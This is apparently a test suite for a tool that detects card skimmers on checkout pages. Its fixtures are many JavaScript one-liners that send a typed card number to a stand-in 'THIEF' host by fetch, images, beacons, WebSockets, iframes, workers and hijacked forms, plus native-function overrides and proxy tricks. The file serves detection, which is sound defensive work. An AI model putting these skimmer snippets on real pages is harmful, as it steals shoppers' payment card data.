import { describe, expect, it } from 'vitest'
import { browser, shareBrowser } from './shared-browser.ts'
import { cardForm, type Watched, watchPage } from './watch-page.ts'

shareBrowser()

const onChange = (work: string) =>
  `document.getElementById('card').addEventListener('change', async function take() { const pan = this.value; const f = document.getElementById('f'); ${work} })`
const steal = (work: string) => watchPage(browser, { skimmer: onChange(work) })
const kindsOf = ({ behaviours, thieves }: Watched) =>
  new Set(behaviours.filter(({ scriptId }) => scriptId !== null && thieves.has(scriptId)).map(({ kind }) => kind))

describe('a way out is found with its script: ', () => {
  it.each([
    ['a request object', 'sends-fetch', `fetch(new Request('http://THIEF/a', { method: 'POST', mode: 'no-cors', body: pan }))`],
    [
      'an image written as markup',
      'sends-image',
      `document.body.insertAdjacentHTML('beforeend', '<img src="http://THIEF/h?' + pan + '">')`,
    ],
    [
      'an image loaded lazily',
      'sends-image',
      `const k = new Image(); k.loading = 'lazy'; document.body.prepend(k); k.src = 'http://THIEF/z?' + pan`,
    ],
    ['a srcset', 'sends-image', `new Image().srcset = 'http://THIEF/s?' + pan + ' 1x'`],
    ['a sound', 'sends-other', `new Audio('http://THIEF/au?' + pan).load()`],
    [
      'a style sheet',
      'sends-other',
      `const k = document.createElement('link'); k.rel = 'stylesheet'; k.href = 'http://THIEF/l?' + pan; document.head.append(k)`,
    ],
    [
      'a script',
      'inserts-script',
      `const k = document.createElement('SCRIPT'); k.src = 'http://THIEF/s.js?' + pan; document.head.append(k)`,
    ],
    [
      'a frame',
      'inserts-frame',
      `const k = document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe'); k.src = 'http://THIEF/f?' + pan; document.body.append(k)`,
    ],
    ['an event source', 'sends-eventsource', `new EventSource('http://THIEF/e?' + pan)`],
    [
      'a ping',
      'sends-beacon',
      `const a = document.createElement('a'); a.href = '#x'; a.ping = 'http://THIEF/p?' + pan; f.append(a); a.click()`,
    ],
    ['an address', 'navigates', `location.href = 'http://THIEF/l?' + pan`],
    ['a link', 'navigates', `const a = document.createElement('a'); a.href = 'http://THIEF/l?' + pan; f.append(a); a.click()`],
    ['a window', 'navigates', `open('http://THIEF/w?' + pan)`],
    ['a submitted form', 'sends-form', `f.action = 'http://THIEF/q'; f.requestSubmit()`],
    ['a form sent elsewhere', 'changes-form-action', `f.setAttribute('action', 'http://THIEF/q'); f.querySelector('button').click()`],
    [
      'a whole form',
      'reads-form',
      `fetch('http://THIEF/fd', { method: 'POST', mode: 'no-cors', body: new URLSearchParams(new FormData(f)) })`,
    ],
    [
      'a worker',
      'sends-fetch',
      `new Worker(URL.createObjectURL(new Blob(['onmessage = (e) => fetch("http://THIEF/w", { method: "POST", mode: "no-cors", body: e.data })']))).postMessage(pan)`,
    ],
  ])('%s, %s', async (_name, kind, work) => {
    const watched = await steal(work)
    const sighting = watched.canary.sightings.find(({ value, host }) => value === 'card' && host === watched.thiefHost)
    expect(sighting).toBeDefined()
    expect(watched.thieves).toContain(sighting?.scriptId)
    expect(kindsOf(watched)).toContain(kind)
    expect(watched.atShop.filter((line) => line.startsWith('POST'))).toEqual([])
    if (/navigates|form/.test(kind) && kind !== 'reads-form')
      expect(watched.atThief.filter((line) => !line.startsWith('GET /t.js'))).toEqual([])
  })
})

it.each([
  ['sends-fetch', `fetch('http://THIEF/a?' + pan, { mode: 'no-cors' }).catch(() => 0)`],
  ['sends-xhr', `const x = new XMLHttpRequest(); x.open('POST', 'http://THIEF/x'); x.send(pan)`],
  ['sends-beacon', `navigator.sendBeacon('http://THIEF/b', pan)`],
  ['sends-websocket', `new WebSocket('ws://THIEF/w?' + pan)`],
  ['sends-image', `new Image().src = 'http://THIEF/i?' + pan`],
])('%s is told of though a policy stops it', async (kind, work) => {
  const watched = await watchPage(browser, {
    skimmer: onChange(work),
    body: `<meta http-equiv="Content-Security-Policy" content="connect-src 'none'; img-src 'none'">${cardForm}`,
  })
  expect(kindsOf(watched)).toContain(kind)
})

it('what a script keeps, tells and opens is found with it', async () => {
  const watched = await steal(`localStorage.setItem('a', pan); sessionStorage.getItem('b'); document.cookie = 'c=1'; document.cookie
    parent.postMessage(pan, '*'); new RTCPeerConnection().createDataChannel('x')
    document.body.insertAdjacentHTML('beforeend', '<form action="http://THIEF/x"><input name=cardnumber autocomplete=cc-number></form>')`)
  expect([...kindsOf(watched)]).toEqual(
    expect.arrayContaining([
      'listens-field',
      'reads-field',
      'writes-storage',
      'reads-storage',
      'writes-cookie',
      'reads-cookie',
      'posts-message',
      'sends-rtc',
      'inserts-form',
      'inserts-field',
    ]),
  )
})

it('what is kept without a call is found, with what was typed in it, though nobody can be named for it', async () => {
  const { behaviours } = await steal(`localStorage.kept = btoa(pan); sessionStorage['plain'] = 'x'`)
  const of = (target: string) => behaviours.filter((one) => one.kind === 'writes-storage' && one.target === target)
  expect(of('kept')).toMatchObject([{ scriptId: null, detail: 'holds the typed card', evidence: 'dom-difference' }])
  expect(of('plain')).toMatchObject([{ scriptId: null, detail: '' }])
})

describe('a native function replaced', () => {
  it('while one types is found', async () => {
    const { behaviours, thieves } = await steal(`HTMLFormElement.prototype.submit = function () {}`)
    expect(behaviours).toContainEqual(
      expect.objectContaining({ kind: 'overrides-native', target: 'HTMLFormElement.submit', scriptId: [...thieves][0] }),
    )
  })

  it('while one types by a property of another kind is found, though the page lies about what descriptors hold', async () => {
    const { behaviours, thieves } = await steal(`const real = Navigator.prototype.sendBeacon
      Object.defineProperty(Navigator.prototype, 'sendBeacon', { get: () => () => true })
      Object.prototype.value = real`)
    expect(behaviours).toContainEqual(
      expect.objectContaining({ kind: 'overrides-native', target: 'Navigator.sendBeacon', scriptId: [...thieves][0] }),
    )
  })

  it('by a proxy is found though nobody can be named for it, and the proxy sees no look', async () => {
    const skimmer = `const looks = []; window.looks = looks
      window.fetch = new Proxy(fetch, { get: (t, k) => (looks.push(k), t[k]), ownKeys: (t) => (looks.push('keys'), Reflect.ownKeys(t)), getOwnPropertyDescriptor: (t, k) => (looks.push(k), Reflect.getOwnPropertyDescriptor(t, k)) })
      document.querySelector('button').addEventListener('click', () => navigator.sendBeacon('http://THIEF/looks', JSON.stringify(looks.map(String))))`
    const { behaviours, capture } = await watchPage(browser, { skimmer })
    expect(behaviours).toContainEqual(expect.objectContaining({ kind: 'overrides-native', target: 'window.fetch', scriptId: null }))
    const told = capture.requests.filter(({ url }) => url.endsWith('/looks')).map(({ exchange }) => exchange?.requestBody?.text)
    expect(new Set(told)).toEqual(new Set(['[]']))
  })

  it('by a bound function is put down to whoever wrote that', async () => {
    const skimmer = `const own = function mine(...given) { return Reflect.apply(XMLHttpRequest.prototype.abort, this, given) }
      Navigator.prototype.sendBeacon = own.bind(null)`
    const { behaviours, thieves } = await watchPage(browser, { skimmer })
    expect(behaviours).toContainEqual(
      expect.objectContaining({ kind: 'overrides-native', target: 'Navigator.sendBeacon', scriptId: [...thieves][0] }),
    )
  })
})

it('a form made among thousands of elements with handlers is put down to its maker', async () => {
  const shop = `for (let i = 0; i < 3200; i++) { const a = document.createElement('a'); a.setAttribute('onclick', 'go(' + i + ')'); document.body.append(a) }`
  const skimmer = onChange(
    `document.body.insertAdjacentHTML('beforeend', '<form action="http://THIEF/q"><input autocomplete=cc-number></form>')`,
  )
  const watched = await watchPage(browser, { shop, skimmer })
  expect([...kindsOf(watched)]).toEqual(expect.arrayContaining(['inserts-form', 'inserts-field']))
})

it('what is sent before a card is read is dated before', async () => {
  const skimmer = `const early = () => fetch('http://THIEF/early', { method: 'POST', mode: 'no-cors', body: 'x' })
    document.getElementById('mail').addEventListener('input', early, { once: true })
    document.getElementById('card').addEventListener('change', function () { window.kept = this.value.length })`
  const { behaviours } = await watchPage(browser, { skimmer })
  const sent = behaviours.find((one) => one.kind === 'sends-fetch')
  const read = behaviours.find((one) => one.kind === 'reads-field' && one.fieldKind === 'card-number')
  expect(sent?.phase).toBe('typing')
  expect(sent?.atMs).toBeLessThan(read?.atMs ?? 0)
})

it('a script that reads only at the last key is found, whatever it does between', async () => {
  const skimmer = `let keys = 0
    document.getElementById('card').addEventListener('input', function take() {
      keys++
      if (keys > 8 && keys < 14) document.cookie = 'k=' + keys
      if (keys === 16) window.kept = this.value
    })`
  const watched = await watchPage(browser, { skimmer })
  expect(kindsOf(watched)).toContain('reads-field')
})
